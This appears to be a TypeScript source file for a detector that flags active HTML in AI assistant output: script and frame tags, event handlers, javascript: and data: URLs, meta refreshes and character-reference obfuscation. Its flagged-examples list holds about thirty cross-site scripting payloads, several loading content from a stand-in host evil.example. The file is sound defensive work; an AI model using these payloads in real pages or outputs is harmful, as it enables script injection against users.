import type { Detector, Range } from "../contracts/detection.ts";
import { mergeRanges, scan, scanFromAnchor } from "../foundation/scan.ts";
import { ACTIVE_ATTRIBUTE_PATTERNS, activeAttribute } from "./active-attribute.ts";
import { ATTRIBUTE_CHARS } from "./attribute-before.ts";
import { COLON_REFERENCE, SCHEME_PATTERNS, schemeBefore } from "./scheme-before.ts";

const TAG =
  /<(?:[a-z][a-z0-9]{0,7}:)?(?:script|iframe|object|embed|applet|frame|frameset|base|portal|style|link)(?![A-Za-z0-9_-])/iy;
const EQUALS = /(?<=[\s"'/](?:on[a-z]{3,24}|srcdoc|formaction|http-equiv|attributename)\s{0,8})=(?!=)/iy;
const COLON = /(?<=[t;46\t\n\r\0\\]):/iy; // what the schemes, or references to their last letter, end with
/** URLs of pages without a host, and script in style sheets. */
const CONTENT =
  /(?<=(?<![A-Za-z])(data)):(?:text\/html|image\/svg\+xml|application\/xhtml\+xml)(?=[;,])|:\s{0,3}(?:expression\(|url\((?<=(?<![A-Za-z])(?:-moz-binding|behavior)\s{0,3}:\s{0,3}url\())/iy;
const TAG_REST = /[^<>\n]*>?/y;
/** Up to the bracket and no further: with it gone, the words behind it would be attributes. */
const ATTRIBUTE_REST = /[^<>\n]*/y;

/** Room for ten letters, each as a reference. */
const SCHEME_CHARS = 128;
const SCRIPT_SCHEMES = ["javascript", "vbscript"] as const;
const URL_ATTRIBUTE =
  /(?:href|src|action|data|to|from|values|by|cite|poster|background)\s{0,8}=\s{0,8}["'`]?\s{0,8}$/i;

/** HTML in an answer that runs code or loads a page when it is shown as HTML. */
export const activeHtml: Detector = {
  id: "output.active-html",
  type: "ACTIVE_HTML",
  description:
    "Script, frame, object, style and link tags, event handlers, refreshing pages, script in style sheets, javascript: and data: URLs, also written with character references.",
  reference:
    "OWASP Top 10 for LLM Applications 2025, LLM05; OWASP Cross Site Scripting Prevention; CWE-79; HTML Living Standard, 13.2.5",
  reach: 180, // a scheme of 128 with its colon as a reference and its attribute before it; a handler with its tag opening 128 before it
  sources: ["output"],
  weaknesses:
    "Code that is shown and not run looks the same: HTML in a code block is found as well. Not found: templates of a framework, style sheets with escapes in their names, more than 8 spaces before an equals sign, and handlers more than 128 characters behind a bracket that stands quoted in the same tag.",
  detect: (text, from) =>
    mergeRanges(
      scanFromAnchor("<", TAG, text, from, { grow: TAG_REST }),
      scanFromAnchor("=", EQUALS, text, from, { judge: activeAttribute, grow: ATTRIBUTE_REST }),
      scanFromAnchor(":", CONTENT, text, from),
      scanFromAnchor(":", COLON, text, from, { judge: scriptUrl }),
      scan(COLON_REFERENCE, text, from, { judge: scriptUrl }),
    ),
  patterns: [
    TAG,
    EQUALS,
    COLON,
    CONTENT,
    TAG_REST,
    ATTRIBUTE_REST,
    URL_ATTRIBUTE,
    ...ACTIVE_ATTRIBUTE_PATTERNS,
    ...SCHEME_PATTERNS,
  ],
  exampleContext: { source: "output", origin: "assistant", systemTexts: [] },
  examples: {
    flagged: [
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js>",
      "<svg:script>alert(1)</svg:script>",
      "<img src=x onerror=alert(1)>",
      "<svg/onload=alert(1)>",
      "<body onpageshow = 'x()'>",
      "<x\nonclick\t=\nalert(1)>press",
      '<img alt=">" onerror=alert(1)>',
      "<img alt='<' onerror=alert(1)>",
      "<details open ontoggle=alert`1`>",
      '<iframe src="https://evil.example"></iframe>',
      '<x srcdoc="&lt;script&gt;">',
      "<button formaction=//evil.example/>",
      "<object data=x.swf>",
      '<base href="https://evil.example/">',
      "[click](javascript:alert(1))",
      "[click](javascript\\:alert(1))",
      '<a href="JavaScript:alert(1)">',
      '<a href="javascript: alert(1)">',
      "<a href='java\tscript:alert(1)'>",
      '<a href="&#106;&#x61;&#0000118ascript&colon;alert(1)">',
      '<a href="&#1;javascript&#x3A;alert(1)">',
      '<math><maction xlink:href="javascript:alert(1)">',
      '<animate attributeName=href values="x;javascript:alert(1)">',
      "<set attributeName=onmouseover to=alert(1)>",
      "<a href='data:text/html;base64,PHNjcmlwdD4='>",
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      "<meta/content=0;//evil.example/http-equiv=&#114;efresh>",
      '<p style="width:expression(alert(1))">',
      '<p style="-moz-binding: url(//evil.example/x.xml#y)">',
      "<style>@import '//evil.example/x.css'</style>",
      '<link rel="stylesheet" href="//evil.example">',
    ],
    clean: [
      "a < b and c > d",
      '<b>bold</b> <p class="x" style="width: 3em">text</p>',
      "JavaScript: The Good Parts",
      'He read "JavaScript: The Good Parts" twice.',
      "the <scripture> of old",
      "once = 1; only = 2",
      "window.onload = start",
      "if (onset == 3) stop()",
      "<p>it's on</p> for onset = 3",
      "data: text/html is a media type",
      "# on = off",
      '<meta http-equiv="Content-Type" content="text/html">',
      "a regular expression (see above): expression",
      "Topic:script: none",
    ],
  },
};

/** `JavaScript: The Good Parts` is a title: a space behind the colon is one in the value of a link only. */
function scriptUrl(match: RegExpExecArray, text: string): Range | undefined {
  const written = schemeBefore(text, match.index, SCRIPT_SCHEMES, SCHEME_CHARS);
  if (written === undefined || !EDGE.test(written.before)) return undefined;
  const end = match.index + match[0].length;
  const name = text.slice(Math.max(0, written.start - ATTRIBUTE_CHARS), written.start);
  if (/\s/.test(text.charAt(end)) && !URL_ATTRIBUTE.test(name)) return undefined;
  return { start: written.start, end };
}

/** What stands in front of a URL; browsers strip control characters there. */
const EDGE = /^[=("'`\s<,;\u0001-\u001f]$/;
